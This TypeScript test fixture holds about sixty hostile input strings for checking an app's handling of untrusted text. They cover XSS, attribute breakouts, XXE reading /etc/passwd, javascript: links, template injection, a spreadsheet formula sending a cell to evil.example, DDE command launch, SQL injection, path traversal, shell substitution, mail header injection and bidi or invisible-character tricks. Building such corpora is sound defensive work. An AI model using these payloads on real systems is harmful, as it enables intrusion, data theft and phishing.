// Sixty texts that try to be more than text, by what they attack. What runs one of them sets `__ran` on its window.
// Written with escapes wherever the sign itself could not be seen or would turn this file.

/** `why`: what would go wrong where nobody took care. */
export interface Payload {
  group: string;
  text: string;
  why: string;
}

const of = (group: string, payloads: readonly (readonly [text: string, why: string])[]): Payload[] =>
  payloads.map(([text, why]) => ({ group, text, why }));

const HTML = of('html', [
  ['<script>globalThis.__ran=1</script>', 'runs where a text is written into a page as it is'],
  ['<img src=x onerror=globalThis.__ran=1>', 'runs by innerHTML too, which ignores scripts'],
  ['</title></textarea><script>__ran=1</script>', 'leaves the elements in which markup is only text'],
  ['<iframe srcdoc="<script>parent.__ran=1</script>">', 'a page of its own within ours'],
  ['<base href=//evil.example/><a href=x>x</a>', 'sends every relative address elsewhere'],
  ['<style>*{display:none!important}</style>', 'hides the screen without a script'],
  ['<form action=//evil.example><input name=password>', 'asks for a password in our name'],
  ['&lt;b&gt; &amp;amp; &#x3C;i&#x3E; &nbsp;', 'is decoded where a text is escaped by half, or twice'],
]);

const ATTRIBUTES = of('attributes', [
  ['" onmouseover="globalThis.__ran=1" x="', 'leaves an attribute in double quotes'],
  ["' autofocus onfocus='globalThis.__ran=1", 'leaves one in single quotes, and needs no user'],
  ['"><svg onload=globalThis.__ran=1>', 'leaves the attribute and its element'],
  ['x" style="position:fixed;inset:0" y="', 'lays itself over the screen'],
]);

const XML = of('svg and xml', [
  ['<svg><script>globalThis.__ran=1</script></svg>', 'a script by the rules of another language'],
  ['<svg><a xlink:href="javascript:__ran=1">x</a></svg>', 'a link that a cleaner of HTML overlooks'],
  [']]><evil/><![CDATA[', 'ends a section of plain characters in KML, GPX or RTZ'],
  ['<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;', 'has a reader of XML fetch a file'],
]);

const LINKS = of('links', [
  ['javascript:globalThis.__ran=1', 'runs where a text becomes the address of a link'],
  ['JaVa\tScRiPt:globalThis.__ran=1', 'the same past a check of the first letters'],
  ['data:text/html,<script>__ran=1</script>', 'a page that travels in its own address'],
  ['//evil.example/sign-in', 'an address elsewhere that looks like a path of ours'],
]);

const TEMPLATES = of('templates', [
  ['{{name}} {{- email}}', 'is filled in where a text is taken for a template of i18next, with or without escaping'],
  ["{{constructor.constructor('__ran=1')()}}", 'is computed by templates that take expressions'],
  ['$t(shell.signOut)', 'is replaced by another text of ours where i18next nests'],
  ['$t(shell.signOut, {"count": "{{email}}"})', 'nests with options that are filled in before'],
  ['${globalThis.__ran=1} `${__ran=1}`', 'is computed where a text is put into source'],
  ['{count, plural, one {# ship} other {# ships}}', 'is chosen from where texts are ICU messages'],
  ["%s %n %d %(x)s $& $1 $$ $` $'", 'stands for something in printf and in String.replace'],
  ['<0>x</0><1/>', 'is an element where a text is given to Trans'],
]);

const SHEETS = of('spreadsheets', [
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', 'is a formula that sends the cell beside it away'],
  ["+1+cmd|' /C calc'!A0", 'starts a program where spreadsheets still speak DDE'],
  [' \t-2+3\u00A0', 'is computed, looks harmless, and hides its first sign behind blanks'],
  ['@SUM(A1:A9)', 'is a formula by the custom of an older program'],
  ['x"\r\n=1+1,"y', 'leaves its cell and begins a row with a formula'],
]);

const QUERIES = of('queries, shells and paths', [
  ["'; drop table accounts; --", 'ends a statement of SQL that was put together'],
  ['%_%\\', 'finds everything where LIKE is given it, and ends in an escape of nothing'],
  ['{"$gt": ""}', 'is an operator where queries are objects'],
  ['../../../../etc/passwd', 'leaves the folder when it becomes a file name'],
  ['| touch /tmp/x ; $(touch /tmp/x)', 'is a command where a shell gets it'],
]);

const DIRECTION = of('direction of writing', [
  ['\u202Egnp.exe', 'shows itself backwards, and what follows it too'],
  ['\u2067one\u2066two', 'opens two isolates and closes none'],
  ['\u05D0\u05D1\u05D2 (abc) 123', 'right-to-left letters by right, with brackets that must stay as they are'],
]);

const UNSEEN = of('unseen and lookalike', [
  ['a\u200Bb\u200Cc\u200Dd\uFEFFe\u00ADf', 'looks like abcdef and is another name'],
  ['Z\u0351\u036B\u0343\u0328a\u0489\u0317l\u0334g\u0327o\u0489', 'marks piled upon letters, over the lines above and below'],
  ['e\u0301 \u00E9 \uFB01 \u212A \u0130 \u017F', 'is another text after normalising or changing case'],
  ['a\u2028b\u2029c', 'ends a line of JavaScript, not of JSON'],
]);

const PLANES = of('planes of Unicode', [
  ['\u{1F469}\u200D\u{1F469}\u200D\u{1F467} \u{20BB7} \u{1D4B3}', 'two units each, and several letters that are one sign'],
  ['a\uD83Db', 'half a letter: UTF-8 cannot hold it, so it is lost in silence'],
  ['\uDE00', 'the other half, alone'],
]);

const LONG = of('long', [
  ['W'.repeat(40), 'one word, wider than a narrow column'],
  ['A'.repeat(10_000), 'more than any line may have'],
]);

const CONTROLS = of('control characters', [
  ['a\u0000b', 'ends a text in C, and no database takes it'],
  ['a\u001B[31m\u0007\u0008b\u007F\u009Bc', 'colours and rubs out in a terminal that shows a log'],
]);

const HEADERS = of('mail headers', [
  ['x\r\nBcc: all@evil.example', 'is a header of its own in a mail'],
  ['x\r\n\r\n<h1>Pay here</h1>', 'ends the headers and is the mail'],
  ['=?utf-8?Q?x=0D=0ABcc:_all@evil.example?= <a@b.example>', 'is decoded to a header, or taken for an address'],
]);

const BREAKOUTS = of('files', [
  ['"}],"role":"admin","x":[{"y":"', 'leaves its place in JSON that was put together'],
  ['x: !!js/function >\n  - y\n---\nadmin: true', 'is a document of its own in YAML'],
]);

const NAMES = of('names of every object', [
  ['__proto__', 'is no member but what an object is made of'],
  ['constructor', 'is there in every object'],
  ['[object Object]', 'looks like a mistake of ours, and is a name'],
]);

export const CORPUS: readonly Payload[] = [
  ...HTML,
  ...ATTRIBUTES,
  ...XML,
  ...LINKS,
  ...TEMPLATES,
  ...SHEETS,
  ...QUERIES,
  ...DIRECTION,
  ...UNSEEN,
  ...PLANES,
  ...LONG,
  ...CONTROLS,
  ...HEADERS,
  ...BREAKOUTS,
  ...NAMES,
];

/** What no database takes is refused wherever it stands, before the contract is asked (server/http/json-body.ts). */
export const isStorable = (text: string): boolean => !/[\0\p{Surrogate}]/u.test(text);
